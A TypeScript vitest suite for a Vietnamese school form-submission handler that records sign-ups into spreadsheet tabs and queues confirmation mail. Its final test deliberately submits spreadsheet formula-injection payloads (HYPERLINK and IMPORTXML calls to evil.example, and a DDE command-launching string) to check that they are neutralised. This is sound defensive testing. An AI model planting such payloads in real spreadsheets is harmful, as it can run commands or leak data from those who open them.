import { describe, expect, it } from 'vitest';
import { handleFormSubmit, importResponses, type Submission } from '../../src/app/forms/handle-form-submit';
import { setup } from '../../src/app/plan/setup';
import { localDateTime, type Cell, type Grid } from '../../src/core/cell';
import { startsLikeFormula, type Answer, type FormId } from '../../src/core/forms';
import { parseLedger, readLedgerTable } from '../../src/core/outbox/ledger-rows';
import { readMailPayload } from '../../src/core/outbox/enqueue';
import {
  ATTENDANCE_TABLE,
  NOMINATIONS_TABLE,
  RAW_RESPONSES_TABLE,
  TRAINING_SIGNUPS_TABLE,
} from '../../src/core/schema/response-tables';
import { ACTIVITIES_TABLE } from '../../src/core/schema/tables';
import type { TableSpec } from '../../src/core/schema/types';
import { cellText, readTable } from '../../src/core/table';
import { LockUnavailableError } from '../../src/ports';
import { MemoryTables } from '../support/memory-tables';
import { setFamilyMail } from '../support/family-mail';

/** A seeded workbook (2021 plan, sample roster) with small sessions: HD06 2 seats, HD10 3. */
function world(capacities: Record<string, number> = { HD06: 2, HD10: 3 }) {
  const tables = new MemoryTables();
  const errors: string[] = [];
  const infos: string[] = [];
  const ports = {
    tables,
    clock: { now: () => new Date(Date.UTC(2021, 9, 3, 3, 0)) },
    lock: { withLock: <T>(_ms: number, fn: () => T): T => fn() },
    log: { info: (m: string) => void infos.push(m), error: (m: string) => void errors.push(m) },
  };
  setup(ports, { plan: 'seed', sample: true });
  setFamilyMail(tables);
  infos.length = 0;
  const grid = tables.read(ACTIVITIES_TABLE.name)!;
  const table = readTable(ACTIVITIES_TABLE, grid);
  const col = table.header.index.capacity!;
  for (const row of table.rows) {
    const id = cellText(row.cells.id);
    if (id in capacities) tables.write(ACTIVITIES_TABLE.name, row.row - 1, col, [[capacities[id]!]]);
  }
  tables.resetCalls();
  return { tables, ports, errors, infos };
}

const at = (day: number, hour: number, minute = 0) => localDateTime(2021, 10, day, hour, minute);

function training(
  id: string,
  email: string,
  sessions: string[],
  minute: number,
  name = 'Người học',
): Submission {
  return {
    formId: 'training',
    raw: {
      responseId: id,
      timestamp: at(3, 8, minute),
      email,
      answers: {
        'Họ và tên': name,
        'Bạn là': 'Phụ huynh',
        'Buổi tập huấn / nói chuyện muốn tham gia': sessions.map((s) => `[${s}] buổi ${s}`),
      },
    },
  };
}

function rowsOf(tables: MemoryTables, spec: TableSpec) {
  return readTable(spec, tables.read(spec.name)).rows.map((r) => r.cells as Record<string, Cell>);
}

function ledgerKeys(tables: MemoryTables): string[] {
  return readLedgerTable(tables.read('Hộp thư đi')).rows.map((r) => cellText(r.cells.key));
}

describe('handleFormSubmit', () => {
  it('records a trigger delivered twice once: one raw row, one normalised row, one confirmation', () => {
    const { tables, ports } = world();
    const submission = training('resp-1', 'Lan.Nguyen@Example.org', ['HD06'], 1, 'Nguyễn Thị Lan');
    const first = handleFormSubmit(ports, submission);
    expect(first).toMatchObject({
      status: 'recorded',
      responseId: 'resp-1',
      queued: ['confirm-mail:resp-1'],
    });
    const snapshot = JSON.stringify([...tables.tabs]);
    tables.resetCalls();
    const second = handleFormSubmit(ports, submission);
    expect(second).toMatchObject({ status: 'duplicate', queued: [] });
    expect(JSON.stringify([...tables.tabs])).toBe(snapshot);
    expect(tables.calls.write + tables.calls.append + tables.calls.create).toBe(0);
    expect(rowsOf(tables, RAW_RESPONSES_TABLE)).toHaveLength(1);
    const rows = rowsOf(tables, TRAINING_SIGNUPS_TABLE);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ email: 'lan.nguyen@example.org', seats: 'HD06: có chỗ' });
    expect(ledgerKeys(tables)).toEqual(['confirm-mail:resp-1']);
  });

  it('confirms what was recorded, the seat or waitlist place, and how to change it', () => {
    const { tables, ports } = world({ HD06: 1 });
    handleFormSubmit(ports, training('a', 'a@example.org', ['HD06'], 1));
    handleFormSubmit(ports, training('b', 'b@example.org', ['HD06'], 2, 'Trần Văn Bình'));
    const ledger = parseLedger(readLedgerTable(tables.read('Hộp thư đi')));
    const entry = ledger.rows.find((r) => r.entry.key === 'confirm-mail:b')!.entry;
    expect(entry.recipients).toEqual(['b@example.org']);
    const payload = readMailPayload(entry.payload);
    if (typeof payload === 'string') throw new Error(payload);
    expect(payload.text).toContain('Kính gửi Trần Văn Bình,');
    expect(payload.text).toContain('Chỗ HD06: danh sách chờ, vị trí số 1');
    expect(payload.text).toContain('Gửi lại biểu mẫu');
  });

  it('by default confirms to staff only: a family hears on Zalo, and the log says why', () => {
    const { tables, ports, infos } = world({ HD06: 5 });
    setFamilyMail(tables, 'không');
    const staffEmail = tables
      .read('Nhân sự')!
      .flat()
      .map((c) => cellText(c))
      .find((t) => t.includes('@'))!;
    const family = handleFormSubmit(ports, training('f', 'me.cua.be@example.org', ['HD06'], 1));
    const staff = handleFormSubmit(ports, training('s', staffEmail, ['HD06'], 2));
    expect(family.status).toBe('recorded');
    expect(family.queued).toEqual([]);
    expect(staff.queued).toEqual(['confirm-mail:s']);
    expect(ledgerKeys(tables)).not.toContain('confirm-mail:f');
    expect(rowsOf(tables, TRAINING_SIGNUPS_TABLE).map((r) => r.responseId)).toEqual(['f', 's']);
    expect(infos.join('\n')).toContain('1 thư cho phụ huynh không xếp vào Hộp thư đi');
  });

  it('a resubmission replaces the person’s row, keeps both raw copies, and promotes the first waiting', () => {
    const { tables, ports } = world({ HD06: 1, HD10: 3 });
    handleFormSubmit(ports, training('a1', 'a@example.org', ['HD06', 'HD10'], 1, 'An'));
    handleFormSubmit(ports, training('b1', 'b@example.org', ['HD06'], 2, 'Bình'));
    expect(rowsOf(tables, TRAINING_SIGNUPS_TABLE).map((r) => r.seats)).toEqual([
      'HD06: có chỗ; HD10: có chỗ',
      'HD06: chờ số 1',
    ]);
    const outcome = handleFormSubmit(ports, training('a2', 'a@example.org', ['HD10'], 3, 'An'));
    expect(outcome.queued).toEqual(['promote:HD06:b@example.org:a2', 'confirm-mail:a2']);
    const rows = rowsOf(tables, TRAINING_SIGNUPS_TABLE);
    expect(rows.map((r) => [r.responseId, r.seats])).toEqual([
      ['a2', 'HD10: có chỗ'],
      ['b1', 'HD06: có chỗ'],
    ]);
    expect(rowsOf(tables, RAW_RESPONSES_TABLE).map((r) => r.responseId)).toEqual(['a1', 'b1', 'a2']);
    const promotion = parseLedger(readLedgerTable(tables.read('Hộp thư đi'))).rows.find((r) =>
      r.entry.key.startsWith('promote:'),
    )!.entry;
    expect(promotion.recipients).toEqual(['b@example.org']);
    expect(promotion.subject).toContain('Đã có chỗ');
    // An older response delivered late never replaces a newer one.
    handleFormSubmit(ports, { ...training('a0', 'a@example.org', ['HD06'], 0, 'An') });
    expect(rowsOf(tables, TRAINING_SIGNUPS_TABLE)[0]!.responseId).toBe('a2');
  });

  it('keeps a nomination without consent, marked, and leadership’s review on a resubmission', () => {
    const { tables, ports } = world();
    const nomination = (id: string, consent: string, minute: number): Submission => ({
      formId: 'nomination',
      raw: {
        responseId: id,
        timestamp: at(4, 9, minute),
        email: 'ph@example.org',
        answers: {
          'Họ và tên người đề cử': 'Võ Thị Hoa',
          'Quan hệ với gia đình được đề cử': 'Phụ huynh cùng lớp',
          'Họ tên người đại diện gia đình': 'Nguyễn Văn Nam',
          'Họ tên trẻ': 'Nguyễn Minh Khang',
          Lớp: 'Lá 1',
          'Địa chỉ (trong phường)': '12 Cống Quỳnh',
          'Thành tích, tấm gương học tập của gia đình': 'Cả nhà cùng học tin học.',
          'Đồng ý chia sẻ với Hội khuyến học phường': consent,
        },
      },
    });
    handleFormSubmit(ports, nomination('n1', 'Không đồng ý', 0));
    let row = rowsOf(tables, NOMINATIONS_TABLE)[0]!;
    expect(row).toMatchObject({ consent: 'không', status: 'mới' });
    expect(cellText(row.problems)).toContain('chưa đồng ý chia sẻ');
    const status = readTable(NOMINATIONS_TABLE, tables.read(NOMINATIONS_TABLE.name)).header.index.status!;
    tables.write(NOMINATIONS_TABLE.name, 1, status, [['đã xem']]);
    handleFormSubmit(ports, nomination('n2', 'Đồng ý', 5));
    row = rowsOf(tables, NOMINATIONS_TABLE)[0]!;
    expect(row).toMatchObject({ responseId: 'n2', consent: 'có', status: 'đã xem', problems: null });
  });

  it('replies to a flagged response with the reason in Vietnamese, not with a confirmation', () => {
    const { tables, ports } = world();
    const outcome = handleFormSubmit(ports, {
      formId: 'attendance',
      raw: {
        responseId: 'f1',
        timestamp: at(5, 7, 40),
        email: 'gv@example.com',
        answers: { 'Họ và tên': 'Lê Thị Mai', 'Tổ/nhóm': 'Tổ Lá', 'Hình thức tham dự': 'Trực tuyến tại nhà' },
      },
    });
    expect(outcome.status).toBe('flagged');
    expect(outcome.reasons).toEqual(['Thiếu câu trả lời bắt buộc: "Bạn muốn".']);
    expect(outcome.queued).toEqual(['flagged-mail:f1']);
    expect(rowsOf(tables, ATTENDANCE_TABLE)[0]!.problems).toBe('Thiếu câu trả lời bắt buộc: "Bạn muốn".');
  });

  it('lets a busy lock propagate, recording nothing (the trigger is retried)', () => {
    const { tables, ports } = world();
    const busy = {
      ...ports,
      lock: {
        withLock: () => {
          throw new LockUnavailableError();
        },
      },
    };
    expect(() => handleFormSubmit(busy, training('x', 'x@example.org', ['HD06'], 1))).toThrow(
      LockUnavailableError,
    );
    expect(tables.calls.append + tables.calls.write).toBe(0);
  });
});

describe('cost: a constant number of sheet calls', () => {
  function filled(existing: number, formId: FormId) {
    const w = world({ HD06: 40, HD10: 30 });
    const batch: Submission[] = [];
    for (let i = 0; i < existing; i++) {
      const email = `p${i}@example.org`;
      if (formId === 'training')
        batch.push(training(`old-${i}`, email, i % 2 ? ['HD06'] : ['HD10', 'HD06'], i % 60));
      else
        batch.push({
          formId,
          raw: {
            responseId: `old-${i}`,
            timestamp: at(4, 8, i % 60),
            email,
            answers: { 'Họ và tên': `Người ${i}`, 'Bạn muốn': 'Đăng ký tham dự', 'Tổ/nhóm': 'Tổ Lá' },
          },
        });
    }
    importResponses(w.ports, batch);
    w.tables.resetCalls();
    return w;
  }

  for (const formId of ['training', 'attendance'] as const) {
    it(`${formId}: the same calls with 10 and 5,000 rows already there`, () => {
      const counts = [10, 5000].map((n) => {
        const w = filled(n, formId);
        const submission: Submission =
          formId === 'training'
            ? training('new', 'p3@example.org', ['HD10'], 59)
            : {
                formId,
                raw: {
                  responseId: 'new',
                  timestamp: at(5, 8),
                  email: 'p3@example.org',
                  answers: { 'Họ và tên': 'Người 3', 'Bạn muốn': 'Điểm danh có mặt', 'Tổ/nhóm': 'Tổ Lá' },
                },
              };
        handleFormSubmit(w.ports, submission);
        return { ...w.tables.calls };
      });
      expect(counts[0]).toEqual(counts[1]);
      expect(counts[0]!.append).toBe(2); // raw log, outbox
      expect(counts[0]!.write).toBe(1); // the normalised tab, one block
    }, 60_000);
  }

  it('a batch costs what one response costs', () => {
    const one = filled(10, 'training');
    handleFormSubmit(one.ports, training('n0', 'n0@example.org', ['HD06'], 1));
    const many = filled(10, 'training');
    importResponses(
      many.ports,
      Array.from({ length: 50 }, (_, i) => training(`n${i}`, `n${i}@example.org`, ['HD06'], i)),
    );
    expect(many.tables.calls).toEqual(one.tables.calls);
  });
});

describe('no formula reaches a cell', () => {
  it('guards hostile answers in every tab', () => {
    const { tables, ports } = world();
    const answers: Record<string, Answer> = {
      'Họ và tên': '=HYPERLINK("http://evil.example","x")',
      'Bạn là': "+cmd|' /C calc'!A0",
      'Buổi tập huấn / nói chuyện muốn tham gia': ['@SUM(1+1)', '[HD06] x'],
      '-1+2': '=IMPORTXML("http://evil.example","//a")',
    };
    handleFormSubmit(ports, {
      formId: 'training',
      raw: { responseId: '=1+1', timestamp: at(3, 9), email: '=x@y.z', answers },
    });
    for (const [name, grid] of tables.tabs) {
      for (const cell of (grid as Grid).flat()) {
        if (typeof cell === 'string')
          expect(startsLikeFormula(cell), `${name}: ${cell.slice(0, 30)}`).toBe(false);
      }
    }
  });
});
